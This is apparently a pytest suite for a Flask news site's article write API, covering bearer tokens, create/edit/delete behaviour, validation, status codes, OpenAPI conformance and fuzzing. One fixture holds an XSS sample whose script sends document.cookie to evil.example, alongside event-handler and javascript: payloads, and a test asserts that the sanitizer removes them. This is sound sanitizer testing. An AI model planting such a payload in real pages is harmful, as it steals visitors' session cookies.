"""The write API (/api/v1/articles/<id>): tokens made with `flask tokens`, the article life cycle, the
validation path it shares with post files, status codes, the OpenAPI document, and schemathesis."""

import json
import threading
import xml.etree.ElementTree as ET
from collections import Counter
from datetime import datetime, timedelta

import feedparser
import pytest
import schemathesis
import yaml
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_schema_conformance,
    status_code_conformance,
)
from werkzeug.serving import make_server

from models import Article, Token, db

from .conftest import SITE_URL, article_ids, fresh_schema, import_paths, make_app

API = "/api/v1/articles"
ATOM = "{http://www.w3.org/2005/Atom}"
TOMBSTONE = "{http://purl.org/atompub/tombstones/1.0}deleted-entry"

# (method, status) of every API answer these tests saw: each must be documented in openapi.json.
OBSERVED: set[tuple[str, int]] = set()
# What the tests below assert, operation by operation.
EXPECTED = {
    "put": {200, 201, 400, 401, 403, 404, 413, 415, 422},
    "get": {200, 401, 403, 404, 410},
    "delete": {204, 401, 403, 404},
}

AID = "api-night-market-0302"
BODY = (
    "The night market opens on **Friday** at the north pier.\n"
    "\n"
    '<p>Forty stalls, mostly food. <img src="/uploads/night-market.jpg" alt="stalls"></p>\n'
)
ARTICLE = {
    "title": "Night market opens on the north pier",
    "date": "2026-03-02 21:05:00 +0800",
    "categories": ["harbour"],
    "tags": ["markets", "夜市"],
    "author": "Lin Wei",
    "body": BODY,
}
HOSTILE_BODY = (
    '<p onclick="steal()">The council approved the budget.</p>\n'
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
    '<p>Read <a href="javascript:alert(2)">more</a> or watch: <iframe src="https://evil.example/"></iframe></p>\n'
    '<p><img src="x.jpg" onerror="alert(3)"> <a href="https://news.example/ok">fine link</a></p>\n'
)


# -- helpers ------------------------------------------------------------------------------------


def issue(runner, name: str, scope: str = "write") -> str:
    """`flask tokens create NAME --scope SCOPE`: the secret it prints."""
    result = runner.invoke(args=["tokens", "create", name, "--scope", scope])
    assert result.exit_code == 0, result.output
    return result.stdout.strip()


def revoke(runner, name: str) -> None:
    result = runner.invoke(args=["tokens", "revoke", name])
    assert result.exit_code == 0, result.output


def call(client, method: str, article_id: str, secret: str | None = None, headers=None, **kwargs):
    """One API request, with `Authorization: Bearer <secret>` when a secret is given."""
    headers = dict(headers or {})
    if secret is not None:
        headers["Authorization"] = f"Bearer {secret}"
    response = client.open(f"{API}/{article_id}", method=method.upper(), headers=headers, **kwargs)
    if response.status_code < 500:
        OBSERVED.add((method.lower(), response.status_code))
    return response


def put(client, article_id: str, article: dict, secret: str | None):
    return call(client, "put", article_id, secret, json=article)


def assert_error(response, status: int, field=...) -> dict:
    """An API error: the status, application/json, {"error": "...", "field": ...}."""
    assert response.status_code == status, (response.status_code, response.get_data(as_text=True)[:500])
    assert response.mimetype == "application/json", (response.mimetype, response.get_data(as_text=True)[:300])
    data = response.get_json()
    assert isinstance(data, dict), data
    assert isinstance(data.get("error"), str) and data["error"].strip(), data
    if field is not ...:
        assert data.get("field") == field, data
    return data


def rss_guid(client, article_id: str) -> str:
    feed = feedparser.parse(client.get("/feed.rss").data)
    share = f"{SITE_URL}/share/{article_id}.html"
    guids = [entry.id for entry in feed.entries if entry.link == share]
    assert len(guids) == 1, f"{article_id} is not in /feed.rss once"
    return guids[0]


def tombstones(atom: bytes) -> set[str]:
    return {t.get("ref") for t in ET.fromstring(atom).findall(TOMBSTONE)}


def atom_ids(atom: bytes) -> set[str]:
    return {entry.findtext(f"{ATOM}id") for entry in ET.fromstring(atom).iter(f"{ATOM}entry")}


def in_feeds(client, article_id: str) -> dict[str, bool]:
    return {fmt: article_id in article_ids(client.get(f"/feed.{fmt}").data, fmt) for fmt in ("rss", "atom", "json")}


def stored(app, article_id: str) -> dict | None:
    """What the database holds of an article, as readers see it."""
    with app.app_context():
        article = Article.find(article_id)
        db.close()
    if article is None:
        return None
    return {
        "title": article.title,
        "published": article.published,
        "updated": article.updated,
        "summary": article.summary,
        "body": article.body,
        "categories": [(c.slug, c.name) for c in article.categories],
        "tags": article.tags,
        "author": article.author,
        "image": article.image,
        "source_name": article.source_name,
        "source_url": article.source_url,
        "content_hash": article.content_hash,
        "withdrawn": article.withdrawn,
    }


def write_post(folder, name: str, meta: dict, body: str):
    """A Jekyll-style post file with this front matter and body."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    front = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False) if meta else ""
    path.write_text(f"---\n{front}---\n{body}", encoding="utf-8")
    return path


def import_failure(app, path) -> str:
    """The importer's reason for refusing a post file."""
    report = import_paths(app, path)
    assert report.counts["failed"] == 1, (report.counts, report.failures)
    [(failed, reason)] = report.failures
    assert failed == path
    return reason


# -- the life cycle -----------------------------------------------------------------------------


def test_token_and_article_life_cycle(app, client, runner):
    secret = issue(runner, "newsroom")

    # A new article: 201, the article, and where it lives.
    created = put(client, AID, ARTICLE, secret)
    assert created.status_code == 201, created.get_data(as_text=True)
    assert created.mimetype == "application/json"
    assert created.headers["Location"].endswith(f"{API}/{AID}"), created.headers["Location"]
    article = created.get_json()
    assert article["id"] == AID
    assert article["url"] == f"{SITE_URL}/share/{AID}.html"
    assert article["title"] == ARTICLE["title"]
    assert article["date"] == "2026-03-02T21:05:00+08:00"
    assert datetime.fromisoformat(article["date"]).utcoffset() == timedelta(hours=8)
    assert article["updated"] == article["date"]  # no edit yet
    assert article["categories"] == ["harbour"]
    assert article["tags"] == ["markets", "夜市"]
    assert article["author"] == "Lin Wei"
    assert "<strong>Friday</strong>" in article["body"] and "**" not in article["body"]
    assert "<p>" in article["body"]
    assert article["image"] == "/uploads/night-market.jpg"

    # It is published: in the feeds and on its share page.
    assert in_feeds(client, AID) == {"rss": True, "atom": True, "json": True}
    share = client.get(f"/share/{AID}.html")
    assert share.status_code == 200
    assert ARTICLE["title"] in share.get_data(as_text=True)
    guid = rss_guid(client, AID)

    # The same again: 200, nothing changes (updated does not move).
    again = put(client, AID, ARTICLE, secret)
    assert again.status_code == 200, again.get_data(as_text=True)
    assert again.get_json() == article
    assert "Location" in again.headers

    # A new title: 200, the new title, updated moves, the feed item keeps its guid.
    renamed = put(client, AID, ARTICLE | {"title": "Night market opens on the north pier at last"}, secret)
    assert renamed.status_code == 200, renamed.get_data(as_text=True)
    edited = renamed.get_json()
    assert edited["title"] == "Night market opens on the north pier at last"
    assert edited["date"] == article["date"]
    assert datetime.fromisoformat(edited["updated"]) > datetime.fromisoformat(article["updated"])
    assert rss_guid(client, AID) == guid
    assert b"at last" in client.get("/feed.rss").data
    assert "at last" in client.get(f"/share/{AID}.html").get_data(as_text=True)

    # GET: the same article.
    read = call(client, "get", AID, secret)
    assert read.status_code == 200
    assert read.mimetype == "application/json"
    assert read.get_json() == edited

    # DELETE: 204; it leaves every feed and page; Atom announces its tombstone.
    deleted = call(client, "delete", AID, secret)
    assert deleted.status_code == 204
    assert deleted.data == b""
    assert client.get(f"/share/{AID}.html").status_code == 410
    assert in_feeds(client, AID) == {"rss": False, "atom": False, "json": False}
    atom = client.get("/feed.atom").data
    assert guid in tombstones(atom)
    assert guid not in atom_ids(atom)
    assert guid.encode() not in client.get("/feed.rss").data

    # DELETE again: still 204; GET: 410.
    assert call(client, "delete", AID, secret).status_code == 204
    assert_error(call(client, "get", AID, secret), 410)

    # PUT brings it back, with the same guid.
    back = put(client, AID, ARTICLE, secret)
    assert back.status_code == 200, back.get_data(as_text=True)
    assert back.get_json()["title"] == ARTICLE["title"]
    assert call(client, "get", AID, secret).status_code == 200
    assert client.get(f"/share/{AID}.html").status_code == 200
    assert rss_guid(client, AID) == guid
    assert guid not in tombstones(client.get("/feed.atom").data)

    # Revoked with the command line: refused at once, for every operation.
    revoke(runner, "newsroom")
    assert_error(put(client, AID, ARTICLE, secret), 403)
    assert_error(call(client, "get", AID, secret), 403)
    assert_error(call(client, "delete", AID, secret), 403)
    assert stored(app, AID)["withdrawn"] is None  # the refused DELETE changed nothing


def test_a_put_names_a_source_link_with_the_same_id(app, client, runner):
    secret = issue(runner, "newsroom")
    body = BODY + "\n<http://finews.zning.xyz/html_News/NewsShare.html?infoCode=NW202603022105000009>\n"
    created = put(client, "NW202603022105000009", ARTICLE | {"body": body}, secret)
    assert created.status_code == 201, created.get_data(as_text=True)
    data = created.get_json()
    assert data["source_url"] == "http://finews.zning.xyz/html_News/NewsShare.html?infoCode=NW202603022105000009"
    assert "infoCode" not in data["body"]  # page chrome, not body


# -- one validation path for the API and post files ---------------------------------------------


POST_FILE = """---
title: Night market opens on the north pier
date: 2026-03-02 21:05:00 +0800
categories: [harbour]
tags: [markets, 夜市]
author: Lin Wei
excerpt: Forty stalls, mostly food, every Friday.
image: /uploads/cover.jpg
---
{body}"""
TWIN_BODY = (
    "The night market opens on **Friday** at the north pier.\n"
    "\n"
    "- dumplings\n"
    "- grilled squid\n"
    "\n"
    '<p>Forty stalls. <a href="/category/harbour.html">More harbour news</a></p>\n'
    '<p class="em_media">（文章来源：港口晚报）</p>\n'
    "\n"
    "[返回港口新闻](//finews.withounder.com/category/harbour.html)｜[返回首页](//finews.withounder.com/)\n"
)
TWIN = {
    "title": "Night market opens on the north pier",
    "date": "2026-03-02 21:05:00 +0800",
    "categories": ["harbour"],
    "tags": ["markets", "夜市"],
    "author": "Lin Wei",
    "excerpt": "Forty stalls, mostly food, every Friday.",
    "image": "/uploads/cover.jpg",
}


def test_the_api_and_a_post_file_store_the_same_article(app, client, runner, tmp_path):
    secret = issue(runner, "newsroom")
    path = tmp_path / "posts" / "file-twin.md"
    path.parent.mkdir()
    path.write_text(POST_FILE.format(body=TWIN_BODY), encoding="utf-8")
    report = import_paths(app, path)
    assert report.counts["imported"] == 1, report.failures

    response = put(client, "api-twin", TWIN | {"body": TWIN_BODY}, secret)
    assert response.status_code == 201, response.get_data(as_text=True)

    from_file, from_api = stored(app, "file-twin"), stored(app, "api-twin")
    assert from_api == from_file
    assert from_api["categories"] == [("harbour", "港口新闻")]  # the navigation line's display name
    assert from_api["source_name"] == "港口晚报"
    assert "返回首页" not in from_api["body"]
    assert "<strong>Friday</strong>" in from_api["body"] and "<li>dumplings</li>" in from_api["body"]


def test_a_file_after_the_same_put_is_unchanged(app, client, runner, tmp_path):
    """Same id (the source link's infoCode): importing the file after the PUT changes nothing."""
    secret = issue(runner, "newsroom")
    article_id = "NW202603022105000011"
    body = TWIN_BODY + f"\n<http://finews.zning.xyz/html_News/NewsShare.html?infoCode={article_id}>\n"
    response = put(client, article_id, TWIN | {"body": body}, secret)
    assert response.status_code == 201, response.get_data(as_text=True)
    before = stored(app, article_id)

    path = tmp_path / "2026-03-02-night-market.md"
    path.write_text(POST_FILE.format(body=body), encoding="utf-8")
    report = import_paths(app, path)
    assert report.counts["unchanged"] == 1, (report.counts, report.failures)
    assert stored(app, article_id) == before


def test_a_hostile_body_is_sanitized_the_same_both_ways(app, client, runner, tmp_path):
    secret = issue(runner, "newsroom")
    meta = {"title": "Council budget passes", "date": "2026-01-13 12:00:00 +0000", "tags": ["budget"]}
    import_paths(app, write_post(tmp_path, "hostile-file.md", meta, HOSTILE_BODY))
    response = put(client, "hostile-api", meta | {"body": HOSTILE_BODY}, secret)
    assert response.status_code == 201, response.get_data(as_text=True)

    from_file, from_api = stored(app, "hostile-file"), stored(app, "hostile-api")
    assert from_file is not None
    assert from_api == from_file
    body = response.get_json()["body"]
    assert body == from_api["body"]
    lowered = body.lower()
    for danger in ("<script", "document.cookie", "onclick", "onerror", "javascript:", "<iframe"):
        assert danger not in lowered, (danger, body)
    assert "The council approved the budget." in body
    assert 'href="https://news.example/ok"' in body


# (what to change in a good article, field, reason the importer gives)
INVALID = [
    pytest.param({"title": None}, "title", "has no title (add 'title:' to the front matter)", id="no-title"),
    pytest.param({"title": "   "}, "title", "has no title (add 'title:' to the front matter)", id="blank-title"),
    pytest.param({"title": ["a", "b"]}, "title", None, id="title-is-a-list"),
    pytest.param({"date": "next Tuesday"}, "date", None, id="unreadable-date"),
    pytest.param({"date": "2026-02-30 10:00:00 +0800"}, "date", None, id="impossible-date"),
    pytest.param({"date": "2026-03-02 10:00:00 +2500"}, "date", None, id="impossible-offset"),
    pytest.param({"updated": "soon"}, "updated", None, id="unreadable-updated"),
    pytest.param({"tags": ["harbour/ferries"]}, "tags", None, id="tag-with-slash"),
    pytest.param({"tags": ["ok", {"a": 1}]}, "tags", None, id="tag-that-is-a-mapping"),
    pytest.param({"categories": ["news desk/2"]}, "categories", None, id="category-with-slash"),
    pytest.param({"body": "   \n\n"}, "body", None, id="empty-body"),
]


@pytest.mark.parametrize(("change", "field", "reason"), INVALID)
def test_an_invalid_article_gives_the_same_reason_both_ways(app, client, runner, tmp_path, change, field, reason):
    secret = issue(runner, "newsroom")
    good = {"title": "Ferry timetable", "date": "2026-03-02 09:00:00 +0800", "tags": ["ferries"], "body": BODY}
    bad = {key: value for key, value in (good | change).items() if value is not None}

    body = bad.pop("body")
    importer_reason = import_failure(app, write_post(tmp_path, "invalid.md", bad, body))
    if reason is not None:
        assert importer_reason == reason

    response = put(client, "invalid", bad | {"body": body}, secret)
    error = assert_error(response, 422, field)
    assert error["error"] == f"The article {importer_reason}"
    assert stored(app, "invalid") is None


def test_the_no_title_error_in_full(app, client, runner):
    secret = issue(runner, "newsroom")
    response = put(client, "untitled", {"date": "2026-03-02 09:00:00 +0800", "body": BODY}, secret)
    assert_error(response, 422)
    assert response.get_json() == {
        "error": "The article has no title (add 'title:' to the front matter)",
        "field": "title",
    }


@pytest.mark.parametrize("name", ["colour", "id", "layout", "Title"])
def test_an_unknown_field_is_named(app, client, runner, name):
    secret = issue(runner, "newsroom")
    error = assert_error(put(client, "unknown-field", ARTICLE | {name: "red"}, secret), 422, name)
    assert repr(name) in error["error"]
    assert stored(app, "unknown-field") is None


@pytest.mark.parametrize("body", [..., None, 42, ["<p>a</p>"], {"html": "<p>a</p>"}], ids=repr)
def test_a_body_missing_or_not_a_string(app, client, runner, body):
    secret = issue(runner, "newsroom")
    article = {key: value for key, value in ARTICLE.items() if key != "body"}
    if body is not ...:
        article["body"] = body
    assert_error(put(client, "no-body", article, secret), 422, "body")
    assert stored(app, "no-body") is None


def test_a_source_link_naming_another_article(app, client, runner):
    secret = issue(runner, "newsroom")
    body = BODY + "\n<http://finews.zning.xyz/html_News/NewsShare.html?infoCode=NW202603022105000001>\n"
    error = assert_error(put(client, "NW202603022105000002", ARTICLE | {"body": body}, secret), 422, "body")
    assert "NW202603022105000001" in error["error"] and "NW202603022105000002" in error["error"]
    assert stored(app, "NW202603022105000001") is None
    assert stored(app, "NW202603022105000002") is None


# -- status codes -------------------------------------------------------------------------------


# (method, keyword arguments) of each operation on an article.
OPERATIONS = [("put", {"json": ARTICLE}), ("get", {}), ("delete", {})]


@pytest.mark.parametrize("authorization", [None, "Basic bmV3czpyb29t", "Token syn_abc"])
def test_no_bearer_token_is_401(app, client, runner, authorization):
    secret = issue(runner, "newsroom")
    assert put(client, AID, ARTICLE, secret).status_code == 201
    headers = {"Authorization": authorization} if authorization else {}
    for method, kwargs in OPERATIONS:
        response = call(client, method, AID, headers=headers, **kwargs)
        assert_error(response, 401)
        assert response.headers.get("WWW-Authenticate", "").startswith("Bearer"), (method, response.headers)
    assert stored(app, AID)["withdrawn"] is None


def test_unknown_revoked_and_partner_tokens_are_403(app, client, runner):
    writer = issue(runner, "newsroom")
    partner = issue(runner, "wire", "partner")
    old = issue(runner, "old-desk")
    revoke(runner, "old-desk")
    assert put(client, AID, ARTICLE, writer).status_code == 201

    for secret in ("syn_" + "A" * 43, writer + "x", old):
        for method, kwargs in OPERATIONS:
            response = call(client, method, AID, secret, **kwargs)
            assert_error(response, 403)

    # A partner may read, and may not write.
    assert_error(put(client, AID, ARTICLE | {"title": "Changed by a partner"}, partner), 403)
    assert_error(put(client, "partner-new", ARTICLE, partner), 403)
    assert_error(call(client, "delete", AID, partner), 403)
    read = call(client, "get", AID, partner)
    assert read.status_code == 200
    assert read.get_json()["title"] == ARTICLE["title"]
    assert_error(call(client, "get", "no-such-article", partner), 404)

    assert stored(app, AID)["title"] == ARTICLE["title"]
    assert stored(app, AID)["withdrawn"] is None
    assert stored(app, "partner-new") is None


@pytest.mark.parametrize(
    "kwargs",
    [
        {"data": json.dumps(ARTICLE), "content_type": "text/plain"},
        {"data": {"title": "Form", "body": "x"}},  # a form
        {"data": json.dumps(ARTICLE)},  # no content type at all
    ],
    ids=["text-plain", "form", "none"],
)
def test_not_json_is_415(app, client, runner, kwargs):
    secret = issue(runner, "newsroom")
    assert_error(call(client, "put", "not-json", secret, **kwargs), 415)
    assert stored(app, "not-json") is None


@pytest.mark.parametrize("data", ['{"title": "x", "body": ', "[1, 2]", "null", '"text"', "42", "", "\xff"])
def test_malformed_json_or_not_an_object_is_400(app, client, runner, data):
    secret = issue(runner, "newsroom")
    response = call(client, "put", "bad-json", secret, data=data, content_type="application/json")
    assert_error(response, 400)
    assert stored(app, "bad-json") is None


def test_a_body_over_the_limit_is_413_and_not_read(app, client, runner, database_url):
    secret = issue(runner, "newsroom")
    small = make_app(database_url, SYNDICATION_API_MAX_BYTES=2000)
    small_client = small.test_client()

    fits = ARTICLE | {"body": "<p>" + "x" * 1000 + "</p>"}
    assert len(json.dumps(fits)) < 2000
    assert put(small_client, "fits", fits, secret).status_code == 201

    too_large = ARTICLE | {"body": "<p>" + "x" * 5000 + "</p>"}
    assert_error(put(small_client, "too-large", too_large, secret), 413)
    # Not parsed: malformed JSON over the limit is a 413 as well, not a 400.
    malformed = "{" + "x" * 5000
    assert_error(call(small_client, "put", "too-large", secret, data=malformed, content_type="application/json"), 413)
    assert stored(small, "too-large") is None
    assert_error(call(small_client, "get", "too-large", secret), 404)
    # The limit is the setting's, not a fixed one: the default app takes the same article.
    assert put(client, "too-large", too_large, secret).status_code == 201


def test_unknown_articles_are_404(app, client, runner):
    secret = issue(runner, "newsroom")
    assert_error(call(client, "get", "no-such-article", secret), 404)
    assert_error(call(client, "delete", "no-such-article", secret), 404)
    assert stored(app, "no-such-article") is None


IMPOSSIBLE_IDS = ["a%20b", "%00", "abc%0A", "%0A", "a%2Fb", "a%3Cb%3E", "x" * 191, "%E2%80%AE"]


@pytest.mark.parametrize("article_id", IMPOSSIBLE_IDS, ids=lambda i: i if len(i) < 20 else f"{len(i)}-chars")
def test_an_id_no_article_can_have_is_404_never_500(app, client, runner, article_id):
    app.config["PROPAGATE_EXCEPTIONS"] = False  # a crash shows as the 500 a client would get
    secret = issue(runner, "newsroom")
    for method, kwargs in OPERATIONS:
        response = call(client, method, article_id, secret, **kwargs)
        assert response.status_code != 500, (method, response.get_data(as_text=True)[:300])
        assert_error(response, 404)
    with app.app_context():
        count = Article.select().count()
        db.close()
    assert count == 0, "an article was stored under an impossible id"


def test_a_revoked_token_is_refused_at_once_by_another_instance(app, runner, database_url):
    secret = issue(runner, "newsroom")
    other = make_app(database_url)  # another worker (or host) on the same database
    other_client = other.test_client()
    assert put(other_client, AID, ARTICLE, secret).status_code == 201
    assert call(other_client, "get", AID, secret).status_code == 200

    revoke(runner, "newsroom")  # through the first instance

    assert_error(call(other_client, "get", AID, secret), 403)
    assert_error(put(other_client, AID, ARTICLE | {"title": "Too late"}, secret), 403)
    assert_error(call(other_client, "delete", AID, secret), 403)
    assert stored(other, AID)["title"] == ARTICLE["title"]


# -- the OpenAPI document -----------------------------------------------------------------------


def test_the_openapi_document_describes_every_answer(app, client, runner):
    response = client.get("/api/v1/openapi.json")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    document = response.get_json()
    assert document["openapi"] == "3.1.0"
    assert [server["url"] for server in document["servers"]] == ["/api/v1"]
    operations = document["paths"]["/articles/{article_id}"]
    assert {"put", "get", "delete"} <= set(operations)
    schemes = document["components"]["securitySchemes"]
    assert any(s.get("type") == "http" and s.get("scheme") == "bearer" for s in schemes.values())

    observed = {method: {status for m, status in OBSERVED if m == method} for method in EXPECTED}
    for method, statuses in EXPECTED.items():
        documented = {int(code) for code in operations[method]["responses"]}
        missing = (statuses | observed[method]) - documented
        assert not missing, f"{method.upper()} answers {sorted(missing)}, which openapi.json does not document"
        for code, answer in operations[method]["responses"].items():
            if int(code) >= 400:
                schema = answer["content"]["application/json"]["schema"]
                assert schema == {"$ref": "#/components/schemas/Error"}, (method, code)

    # Real answers match the documented schemas.
    def validator(name: str) -> Draft202012Validator:
        return Draft202012Validator({"$ref": f"#/components/schemas/{name}", "components": document["components"]})

    secret = issue(runner, "newsroom")
    created = put(client, AID, ARTICLE, secret)
    validator("ArticleInput").validate(ARTICLE)
    validator("Article").validate(created.get_json())
    validator("Article").validate(call(client, "get", AID, secret).get_json())
    for error in (
        put(client, AID, {"body": BODY}, secret),
        call(client, "get", AID),
        call(client, "get", "no-such-article", secret),
        call(client, "put", AID, secret, data="[]", content_type="application/json"),
    ):
        validator("Error").validate(error.get_json())


# -- schemathesis -------------------------------------------------------------------------------


# Random strings are rarely readable dates or usable names, so on their own the fuzzer would only ever see
# 422s. Half the generated articles get a date and names the server accepts and a title and body that are
# not blank (everything else stays as generated), and some requests go to articles that exist, so 200,
# 201, 204 and 410 answers are checked against the schema too.
FUZZ_DATES = ["2026-03-02 21:05:00 +0800", "2026-01-01", "2025-12-31T23:59:59Z", "2026-06-15 08:00"]
FUZZ_IDS = ["seed-1", "seed-2", "NW202603022105000001", "新闻-3"]
NAMES = st.lists(st.from_regex(r"\A[A-Za-z0-9_.-]{1,20}\Z"), max_size=3)


def _plausible(drawn) -> schemathesis.Case:
    case, fix, date, categories, tags = drawn
    if fix and isinstance(case.body, dict):
        dropped = ("updated", "last_modified_at", "category", "tag", "image", "source_url")  # random URLs: 422s
        body = {k: v for k, v in case.body.items() if k not in dropped}
        # The generated title and body stay, made long enough not to be empty once cleaned.
        title, text = body.get("title"), body.get("body")
        body |= {
            "title": f"{title} headline" if isinstance(title, str) else "headline",
            "body": f"{text}\n\nText." if isinstance(text, str) else "Text.",
        }
        case.body = body | {"date": date, "categories": categories, "tags": tags}
    return case


def fuzz_strategy(operation, mode, headers):
    free = operation.as_strategy(generation_mode=mode, headers=headers)
    existing = st.sampled_from(FUZZ_IDS).flatmap(
        lambda article_id: operation.as_strategy(
            generation_mode=mode, headers=headers, path_parameters={"article_id": article_id}
        )
    )
    cases = st.one_of(free, existing)
    if operation.method.lower() == "put" and mode == schemathesis.GenerationMode.POSITIVE:
        cases = st.tuples(cases, st.booleans(), st.sampled_from(FUZZ_DATES), NAMES, NAMES).map(_plausible)
    return cases


@pytest.mark.slow
def test_schemathesis_finds_no_server_error_and_no_answer_outside_the_schema(tmp_path):
    app = make_app(
        f"sqlite:///{tmp_path / 'fuzz.db'}",
        # Hundreds of requests a minute from one token: the fuzzer is after validation, not the budget.
        SYNDICATION_RATELIMIT_API="",
    )
    fresh_schema(app)
    with app.app_context():
        secret = Token.issue("fuzzer", "write", [])
        db.close()
    app.config["PROPAGATE_EXCEPTIONS"] = False  # a crash is a 500 for the fuzzer to report
    headers = {"Authorization": f"Bearer {secret}"}
    seeder = app.test_client()
    for article_id in FUZZ_IDS:
        assert put(seeder, article_id, ARTICLE, secret).status_code == 201

    server = make_server("127.0.0.1", 0, app)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        schema = schemathesis.openapi.from_url(f"http://127.0.0.1:{server.server_port}/api/v1/openapi.json")
        checks = [not_a_server_error, status_code_conformance, content_type_conformance, response_schema_conformance]
        order = ["put", "get", "delete"]  # withdraw the seeded articles last
        operations = sorted(
            (result.ok() for result in schema.get_all_operations()), key=lambda op: order.index(op.method.lower())
        )
        assert [op.method.lower() for op in operations] == order
        failures, answers = [], Counter()
        for operation in operations:
            for mode in (schemathesis.GenerationMode.POSITIVE, schemathesis.GenerationMode.NEGATIVE):

                @given(case=fuzz_strategy(operation, mode, headers))
                @settings(
                    max_examples=40,
                    deadline=None,
                    database=None,
                    suppress_health_check=list(HealthCheck),
                    phases=[Phase.explicit, Phase.generate, Phase.shrink],
                )
                def run(case):
                    response = case.call_and_validate(headers=headers, checks=checks, timeout=10)
                    answers[case.method, response.status_code] += 1

                try:
                    run()
                except (Exception, BaseExceptionGroup) as e:  # schemathesis's FailureGroup is a BaseExceptionGroup
                    failures.append(f"{operation.label} ({mode}): {type(e).__name__}: {e}")  # try every operation
        assert not failures, "\n\n".join(failures)
        # The fuzzer reached past validation: articles were made, read and withdrawn.
        for answer in [("PUT", 201), ("PUT", 200), ("PUT", 422), ("GET", 200), ("GET", 404), ("DELETE", 204)]:
            assert answers[answer], (answer, answers)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
